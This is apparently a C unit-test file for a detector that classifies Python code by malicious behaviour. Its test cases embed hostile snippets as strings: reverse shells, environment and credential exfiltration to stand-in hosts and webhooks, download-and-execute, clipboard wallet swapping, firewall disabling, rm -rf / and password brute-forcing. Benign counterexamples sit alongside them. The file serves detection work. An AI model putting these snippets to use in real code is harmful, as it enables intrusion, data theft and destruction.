// SPDX-License-Identifier: GPL-2.0-or-later
/* The same by other means: through files, lists, input, and hidden in text. */
#include "folding.h"

#include "../test.h"

/* What programs are made to do by the tools and the texts that they are given. */
static void by_other_means(void)
{
	CHECK(shows("import os\np = os.path.join(a, 'Start Menu', 'Programs', "
		    "'Startup')\nopen(p, 'w')", MPY_BEH_PERSIST_STARTUP, 3));
	CHECK(shows("import os\np = os.path.join(h, '.aws', 'credentials')\n"
		    "open(p).read()", MPY_BEH_SECRET_READ, 3));
	CHECK(shows("import os, subprocess\nsubprocess.run(['curl', '-d', "
		    "str(os.environ), u])", MPY_BEH_ENV_SEND, 2));
	CHECK(shows("import os\nos.system('nslookup ' + os.uname()[1] + x)",
		    MPY_BEH_DNS_SEND, 2));
	CHECK(shows("import subprocess\n"
		    "c = subprocess.getoutput('curl http://x.invalid')\n"
		    "subprocess.getoutput(str(c))", MPY_BEH_NETWORK_RUN, 3));
	CHECK(shows("f.write(f'exec(base64.b64decode({x}))')",
		    MPY_BEH_CODE_TEXT, 1));
	CHECK(shows("run('powershell -w hidden -c x')", MPY_BEH_SHELL_TEXT, 1));
	CHECK(shows("js = 'document.execCommand(\"paste\"); v.replace(/^0x/'",
		    MPY_BEH_CLIPBOARD_SWAP, 1));
	CHECK(shows("run('wget http://x.invalid/a; ./a')",
		    MPY_BEH_SHELL_TEXT, 1));
	CHECK(shows("import os\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)"
		    "\nimport pty\npty.spawn('/bin/sh')",
		    MPY_BEH_REVERSE_SHELL, 5));
	CHECK(shows("import os\nos.dup2(s.fileno(), 0)",
		    MPY_BEH_SOCKET_STDIO, 2));
	CHECK(shows("import pty\npty.spawn('/bin/bash')", MPY_BEH_PTY_SHELL,
		    2));
	CHECK(shows("from x import Fernet\n"
		    "exec(Fernet(k).decrypt(d).decode())",
		    MPY_BEH_DECODE_EXEC, 2));
	CHECK(shows("open(p, 'wb').write(b'\\x7fELF\\2\\1\\1\\0"
		    "00000000000000000000000000000000000000000000000000000000"
		    "00000000')", MPY_BEH_CARRIES, 1));
	CHECK(shows("import urllib.request, os\n"
		    "urllib.request.urlretrieve(u, p)\nos.chmod(p, 0o755)",
		    MPY_BEH_DROP_CHMOD, 3));
	CHECK(shows("import requests, tempfile, subprocess\n"
		    "with tempfile.NamedTemporaryFile() as f:\n"
		    "  f.write(requests.get(u).content)\n"
		    "  subprocess.run(['python', f.name])",
		    MPY_BEH_DOWNLOAD_START, 4));
	CHECK(shows("import base64, subprocess\n"
		    "with open(p, 'wb') as f:\n"
		    "  f.write(base64.b64decode(blob()))\n"
		    "subprocess.run([p])", MPY_BEH_DROP_START, 4));
	CHECK(lacks("import base64, subprocess\n"
		    "with open(p, 'wb') as f:\n"
		    "  f.write(base64.b64decode(blob()))\n"
		    "subprocess.run([p])", MPY_BEH_DOWNLOAD_START));
	CHECK(shows("exec(''.join(map(chr, f())))", MPY_BEH_MADE_EXEC, 1));
	CHECK(is_ordinary("import os\nlog = open('/var/log/x', 'a')\n"
			  "os.dup2(log.fileno(), 1)"));
	CHECK(is_ordinary("import subprocess\n"
			  "subprocess.run(['dig', '+short', 'example.org'])"));
	CHECK(is_ordinary("import os\nos.chmod('run.sh', 0o755)"));
	CHECK(is_ordinary("import os, subprocess\n"
			  "subprocess.run('apt-get install -y curl', "
			  "shell=True, env=os.environ.copy())"));
	CHECK(is_ordinary("import os\nos.popen('curl -s http://x/ip')"));
	CHECK(is_ordinary("import os\n"
			  "p = os.path.join(base, 'discord', 'config.json')"));
	CHECK(is_ordinary("import os\n"
			  "open(os.path.join(root, 'etc', 'profile'), 'w')"));
	CHECK(is_ordinary("import os\nos.dup2(log.fileno(), 1)"));
	CHECK(is_ordinary("import io, subprocess, base64\nb = io.BytesIO()\n"
			  "b.write(base64.b64decode(d))\nsubprocess.run("
			  "['convert', '-', 'x'], input=b.getvalue())"));
	CHECK(is_ordinary("from cryptography.fernet import Fernet\n"
			  "import subprocess\np = Fernet(k).decrypt(b).decode()"
			  "\nsubprocess.run(['mysqldump', '-p' + p, 'db'])"));
	CHECK(is_ordinary("from flask import request\nimport subprocess\n"
			  "subprocess.run(['ping', request.args['host']])"));
	CHECK(is_ordinary("from flask import request\nimport os\n"
			  "os.system('ls ' + request.form['a'] + ' ' + b)"));
	CHECK(is_ordinary("from flask import request\nimport os\n"
			  "JOBS = {'a': 'make a', 'b': 'make b'}\n"
			  "os.system(JOBS[request.args['job']])"));
	CHECK(is_ordinary("exec(bytes(source, 'utf-8'))"));
	CHECK(is_ordinary("import evdev\nd = evdev.InputDevice(p)\n"
			  "u = evdev.UInput()\nfor e in d.read():\n"
			  "  u.write(e.type, e.code, e.value)"));
	CHECK(is_ordinary("exec(chr(10).join(lines))"));
	CHECK(is_ordinary("page = '/a/.exec(x); pako.decompress(data)'"));
	CHECK(is_ordinary("x = 'exec() runs a string'"));
}

/* A shell is told by its input, and by streams that a function is given. */
static void told_by_input(void)
{
	CHECK(shows("import subprocess, requests\ndef run(c):\n"
		    "  subprocess.run(['bash'], input=c)\n"
		    "run(requests.get(u).content)", MPY_BEH_NETWORK_RUN, 4));
	CHECK(shows("import subprocess, requests\n"
		    "subprocess.run(['bash'], input=requests.get(u).content)",
		    MPY_BEH_NETWORK_RUN, 2));
	CHECK(shows("import socket, subprocess\ndef sh(c):\n"
		    "  subprocess.Popen(['/bin/bash', '-i'], stdin=c, stdout=c)"
		    "\ns = socket.socket()\ns.connect(a)\nsh(s)",
		    MPY_BEH_RECV_RUN, 6));
	CHECK(lacks("import base64, subprocess\n"
		    "subprocess.run(['gpg', '-d'], input=base64.b64decode(x))",
		    MPY_BEH_DECODE_RUN));
}

/* A library that tells somebody else what it is given. */
static void patches(void)
{
	CHECK(shows("from pay.client import Pay\nimport urllib.request as u\n"
		    "init = Pay.__init__\ndef start(*args):\n  init(*args)\n"
		    "  u.urlopen(f'https://api.telegram.org/bot1:a/sendMessage"
		    "?text={args[1:]}')\nPay.__init__ = start",
		    MPY_BEH_PATCH_SEND, 7));
	CHECK(shows("import shell, requests\nTO = 'http://x.invalid/'\n"
		    "def tell(code):\n  for k, v in found(code):\n"
		    "    requests.post(TO, json={k: v})\n"
		    "old = shell.Shell.run\ndef run(self, code):\n  r = old(self, code)\n"
		    "  tell(code)\n  return r\nshell.Shell.run = run",
		    MPY_BEH_PATCH_SEND, 11));
	/* the library's own function sends; a test; events and errors */
	CHECK(lacks("import requests\nold = requests.post\n"
		    "def post(url, **k):\n"
		    "  return old('http://localhost:8000/mock', json=k)\n"
		    "requests.post = post", MPY_BEH_PATCH_SEND));
	CHECK(lacks("import celery, requests\ndef fail(self, *a):\n"
		    "  requests.post('https://x.invalid/', json=a)\n"
		    "celery.Task.on_failure = fail", MPY_BEH_PATCH_SEND));
	CHECK(lacks("import app.worker as w\nold = w.done\ndef done(x):\n"
		    "  queue.put('done', x)\nw.done = done",
		    MPY_BEH_PATCH_SEND));
	CHECK(lacks("import requests\nold = requests.post\n"
		    "def post(url, **k):\n  return old(url, timeout=9, **k)\n"
		    "requests.post = post", MPY_BEH_PATCH_SEND));
	CHECK(lacks("import sys, requests, mqtt\n"
		    "def tell(*a):\n  requests.post('http://x.invalid/', a)\n"
		    "sys.excepthook = tell\nc = mqtt.Client()\n"
		    "c.on_message = tell", MPY_BEH_PATCH_SEND));
}

/* Addresses, paths and commands that are encoded, and texts that are not. */
static void hides_text(void)
{
	CHECK(shows("import base64\nu = base64.b64decode('aHR0cDovL3guaW52"
		    "YWxpZC9h').decode()\npost(u, d)", MPY_BEH_HIDDEN_TEXT,
		    2));
	CHECK(shows("p = 'dilavni.x//:ptth'[::-1]", MPY_BEH_HIDDEN_TEXT, 1));
	CHECK(shows("u = 'http://203.0.113.5:8000/a'", MPY_BEH_BARE_ADDRESS,
		    1));
	CHECK(shows("u = 'tcp://198.51.100.7'", MPY_BEH_BARE_ADDRESS, 1));
	CHECK(shows("import socket\ns = socket.socket()\n"
		    "s.connect(('203.0.113.5', 4444))", MPY_BEH_BARE_ADDRESS,
		    3));
	CHECK(lacks("u = ['http://10.0.0.1/', 'http://192.168.1.1/', "
		    "'http://127.0.0.1:80', 'http://172.20.1.2', "
		    "'http://169.254.169.254/', 'http://1.2.3.4.example/', "
		    "'http://203.0.113.5.nip.example/', 'http://300.1.1.1/', "
		    "'dns://8.8.8.8', 'http://203.0.113', 'v 203.0.113.5', "
		    "'://', 'http://']", MPY_BEH_BARE_ADDRESS));
	CHECK(shows("import pyperclip as c, re\nwhile 1:\n"
		    "  if re.match('[13][a-km-zA-HJ-NP-Z1-9]{33}', t):\n"
		    "    c.copy(mine)\n  t = c.paste()",
		    MPY_BEH_WALLET_SWAP, 4));
	CHECK(shows("import tkinter\nr = tkinter.Tk()\nc = r.clipboard_get()\n"
		    "if c.startswith('bc1') and c != mine:\n"
		    "  r.clipboard_append(mine)", MPY_BEH_WALLET_SWAP, 5));
	CHECK(lacks("import pyperclip as c\nv = '72d68bc1'\n"
		    "c.copy(c.paste() + v)", MPY_BEH_WALLET_SWAP));
	CHECK(lacks("import pyperclip as c\nc.copy(c.paste().strip())",
		    MPY_BEH_WALLET_SWAP));
	CHECK(lacks("import re\nok = re.match('0x[a-fA-F0-9]{40}', t)",
		    MPY_BEH_WALLET_SWAP));
	CHECK(shows("import subprocess, requests\n"
		    "t = subprocess.check_output(['pbpaste'])\n"
		    "requests.post(u, data=t)", MPY_BEH_CLIPBOARD_SEND, 3));
	CHECK(shows("pod = {'hostPID': True, 'containers': [{\n"
		    "'securityContext': {'privileged': True}}]}",
		    MPY_BEH_ESCAPE, 1));
	CHECK(shows("c.run('a', 'b', volumes={'/': {'bind': '/h', 'mode': 'rw'"
		    "}})", MPY_BEH_ESCAPE, 1));
	CHECK(lacks("a = {'/': (div, 2)}\nb = {'bind': '0.0.0.0:80'}\n"
		    "c = {'/': {'static': 1},\n 'server': {'bind': h}}",
		    MPY_BEH_ESCAPE));
	CHECK(lacks("pod = {'hostPID': False, 'containers': [{\n"
		    "'securityContext': {'privileged': True}}]}",
		    MPY_BEH_ESCAPE));
	/* what was gathered, though a parameter stands beside it */
	static const char *const gathered[] = {
		"def f(e):\n  post(H, json={'content': gather(), 'to': e})",
		"class A:\n  def f(self):\n    post(H, json={'content': self.x})",
		"import loot\ndef f(e):\n  post(H, json={'content': loot.x})",
		"def f(p):\n  rows = q(p).fetchall()\n"
		"  post(H, json={'content': str(rows)})",
	};
	char text[400];

	for (size_t i = 0; i < sizeof(gathered) / sizeof(gathered[0]); i++) {
		snprintf(text, sizeof(text),
			 "from requests import post\n"
			 "H = 'https://discord.com/api/webhooks/1/x'\n%s",
			 gathered[i]);
		CHECK(shows(text, MPY_BEH_WEBHOOK_SEND, 0));
	}
	/* what was fetched is news, and not beside what is of this host */
	CHECK(lacks("from requests import get, post\n"
		    "H = 'https://discord.com/api/webhooks/1/x'\n"
		    "r = get('https://x.invalid/price').json()\n"
		    "post(H, json={'content': 'now %s' % r['eur']})",
		    MPY_BEH_WEBHOOK_SEND));
	CHECK(shows("from requests import get, post\n"
		    "H = 'https://discord.com/api/webhooks/1/x'\n"
		    "r = get('https://x.invalid/price').json()\n"
		    "post(H, json={'content': 'now %s' % r['eur']})",
		    MPY_BEH_WEBHOOK_NEWS, 4));
	CHECK(shows("import os\nfrom requests import get, post\n"
		    "H = 'https://discord.com/api/webhooks/1/x'\n"
		    "r = get('https://x.invalid/price').text\n"
		    "post(H, json={'content': r + open(p).read()})",
		    MPY_BEH_WEBHOOK_SEND, 5));
	CHECK(shows("Popen(['id'])", MPY_BEH_RUN_COMMAND, 1));
	CHECK(shows("from stegano import lsb\nexec(lsb.reveal('a.png'))",
		    MPY_BEH_DECODE_EXEC, 2));
	CHECK(shows("p = bytes.fromhex('2f6574632f736861646f77').decode()",
		    MPY_BEH_HIDDEN_TEXT, 1));
	CHECK(shows("u = ''.join(chr(c ^ 1) for c in [105, 117, 117, 113, 59, "
		    "46, 46, 121])", MPY_BEH_HIDDEN_TEXT, 1));
	CHECK(shows("s = ''\nfor c in [105, 117, 117, 113, 59, 46, 46, 121]:"
		    "\n  s += chr(c ^ 1)\nget(s + '')",
		    MPY_BEH_HIDDEN_TEXT, 4));
	CHECK(lacks("u = '/'.join(['http://host', str(8000 + 1)])",
		    MPY_BEH_HIDDEN_TEXT));
	CHECK(lacks("u = list(reversed(['https://x.invalid/a', 'b']))[1]",
		    MPY_BEH_HIDDEN_TEXT));
	CHECK(lacks("u = 'http://x.invalid/{}'.format(n ^ 1)",
		    MPY_BEH_HIDDEN_TEXT));
	CHECK(lacks("for n in range(3):\n  get(f'http://x.invalid/{n + 1}')",
		    MPY_BEH_HIDDEN_TEXT));
	CHECK(lacks("import base64\nt = base64.b64decode('aGVsbG8=')",
		    MPY_BEH_HIDDEN_TEXT));
}

/* What a server of its own is asked for. */
static void asked_by_web(void)
{
	CHECK(shows("import http.server, os\n"
		    "class H(http.server.SimpleHTTPRequestHandler):\n"
		    "  def do_GET(self):\n    os.popen(self.path[1:])",
		    MPY_BEH_WEB_COMMAND, 4));
	CHECK(lacks("import http.server, subprocess\n"
		    "class H(http.server.BaseHTTPRequestHandler):\n"
		    "  def do_GET(self):\n"
		    "    subprocess.run(['convert', self.path, 'x.png'])",
		    MPY_BEH_WEB_COMMAND));
	CHECK(lacks("import http.client, os\nclass H:\n  def go(self):\n"
		    "    os.popen(self.path)", MPY_BEH_WEB_COMMAND));
	CHECK(lacks("import os\nclass H:\n  def do_GET(self):\n"
		    "    os.popen(self.path)", MPY_BEH_WEB_COMMAND));
}

/* What a shell that runs is told. */
static void fed_shells(void)
{
	CHECK(shows("import subprocess, requests\nclass S:\n"
		    "  def __init__(self):\n"
		    "    self.p = subprocess.Popen(['bash'], stdin=-1)\n"
		    "  def run(self, c):\n"
		    "    self.p.stdin.write((c + '\\n').encode())\n"
		    "s = S()\ns.run(requests.get(u).text)",
		    MPY_BEH_NETWORK_RUN, 8));
	CHECK(shows("import subprocess\n"
		    "p = subprocess.Popen('/bin/sh', stdin=-1)\n"
		    "p.communicate(sock.recv(99))", MPY_BEH_RECV_RUN, 3));
	CHECK(lacks("import subprocess, requests\n"
		    "p = subprocess.Popen(['gzip', '-d'], stdin=-1)\n"
		    "p.communicate(requests.get(u).content)",
		    MPY_BEH_NETWORK_RUN));
}

/* Commands word by word: what does harm is seen as in one text. */
static void as_lists(void)
{
	/* an interpreter that has its program, a path that a shell has printed */
	CHECK(lacks("import subprocess\np = subprocess.Popen(['perl', '-ne', "
		    "'print uc'], stdin=-1)\np.communicate(s.recv(9))",
		    MPY_BEH_RECV_RUN));
	CHECK(lacks("import subprocess, urllib.request as u\n"
		    "p = subprocess.Popen(['node', 'a.js'], stdin=-1)\n"
		    "p.stdin.write(u.urlopen(x).read())",
		    MPY_BEH_NETWORK_RUN));
	CHECK(lacks("import subprocess, urllib.request as u\n"
		    "d = subprocess.check_output(['bash', '-c', 'mktemp'])\n"
		    "open(d, 'wb').write(u.urlopen(x).read())",
		    MPY_BEH_NETWORK_RUN));
	CHECK(shows("import os\nos.system('/usr/bin/sudo -n nc h 1 -e /bin/sh')",
		    MPY_BEH_SHELL_REVERSE, 2));
	CHECK(shows("import subprocess\n"
		    "subprocess.run(['systemctl', 'stop', 'auditd'])",
		    MPY_BEH_DEFENCE_OFF, 2));
	CHECK(shows("import subprocess\n"
		    "subprocess.Popen(['/bin/nc', ip, port, '-e', '/bin/sh'])",
		    MPY_BEH_SHELL_REVERSE, 2));
	CHECK(shows("import os\nos.system('ncat 192.0.2.1 4444 -e /bin/sh')",
		    MPY_BEH_SHELL_REVERSE, 2));
	CHECK(shows("import os\nos.system('nohup sudo nc -c sh 192.0.2.1 4 &')",
		    MPY_BEH_SHELL_REVERSE, 2));
	CHECK(lacks("import os\nos.system('nc -z 192.0.2.1 22')\n"
		    "os.system('nc -lp 99 | gzip -d -c > x')\n"
		    "os.system('nc -c www.example 443')",
		    MPY_BEH_SHELL_REVERSE));
	CHECK(shows("import os\nos.execlp('iptables', 'iptables', '-F')",
		    MPY_BEH_FIREWALL_OFF, 2));
	CHECK(shows("import subprocess as s\ns.call(['netsh', 'advfirewall', "
		    "'set', 'allprofiles', 'state', 'off'], timeout=9)",
		    MPY_BEH_FIREWALL_OFF, 2));
	CHECK(shows("import subprocess\nsubprocess.call(['rm', '-rf', '/'])",
		    MPY_BEH_DESTROY_ALL, 2));
	CHECK(lacks("import subprocess\nsubprocess.call(['rm', '-rf', d])",
		    MPY_BEH_DESTROY));
	CHECK(lacks("import subprocess\nsubprocess.call(['crontab', '-l'])",
		    MPY_BEH_PERSIST_CRON));
	CHECK(shows("import subprocess\n"
		    "subprocess.Popen(args=['setenforce', '0'])",
		    MPY_BEH_FIREWALL_OFF, 2));
	CHECK(lacks("import subprocess as s\n"
		    "s.call(['docker', 'exec', c, 'rm', '-rf', '/var'])",
		    MPY_BEH_DESTROY));
	CHECK(lacks("import subprocess\n"
		    "subprocess.run(['rm', '-rf', '/bootstrap'])",
		    MPY_BEH_DESTROY));
	CHECK(lacks("import os, stat, urllib2\nd = open(P, 'wb')\n"
		    "d.write(urllib2.urlopen(u).read())\n"
		    "os.chmod(P, stat.S_IRUSR | stat.S_IWUSR)",
		    MPY_BEH_DROP_CHMOD));
	CHECK(shows("import os, stat, urllib2\nd = open(P, 'wb')\n"
		    "d.write(urllib2.urlopen(u).read())\n"
		    "os.chmod(P, os.stat(P).st_mode | stat.S_IEXEC)",
		    MPY_BEH_DROP_CHMOD, 4));
}

/* Passwords of a list tried on one host, not hosts of a list visited. */
static void tries_passwords(void)
{
	CHECK(shows("import paramiko\ndef f(ip):\n  s = paramiko.SSHClient()\n"
		    "  for l in open('p.txt').readlines():\n"
		    "    [u, p] = l.split()\n"
		    "    s.connect(ip, username=u, password=p)",
		    MPY_BEH_BRUTE_FORCE, 6));
	CHECK(shows("import ftplib\nw = open('w').read().splitlines()\n"
		    "for p in w:\n  f = ftplib.FTP('192.0.2.1')\n"
		    "  f.login('admin', p)", MPY_BEH_BRUTE_FORCE, 5));
	CHECK(lacks("import csv, paramiko\n"
		    "for h, u, p in csv.reader(open('hosts.csv')):\n"
		    "  s = paramiko.SSHClient()\n"
		    "  s.connect(h, username=u, password=p)",
		    MPY_BEH_BRUTE_FORCE));
	CHECK(lacks("import smtplib\np = open('.pw').read()\n"
		    "s = smtplib.SMTP('mail')\ns.login('me', p)",
		    MPY_BEH_BRUTE_FORCE));
}

int main(void)
{
	RUN(by_other_means);
	RUN(told_by_input);
	RUN(patches);
	RUN(hides_text);
	RUN(asked_by_web);
	RUN(fed_shells);
	RUN(as_lists);
	RUN(tries_passwords);
	return DONE();
}
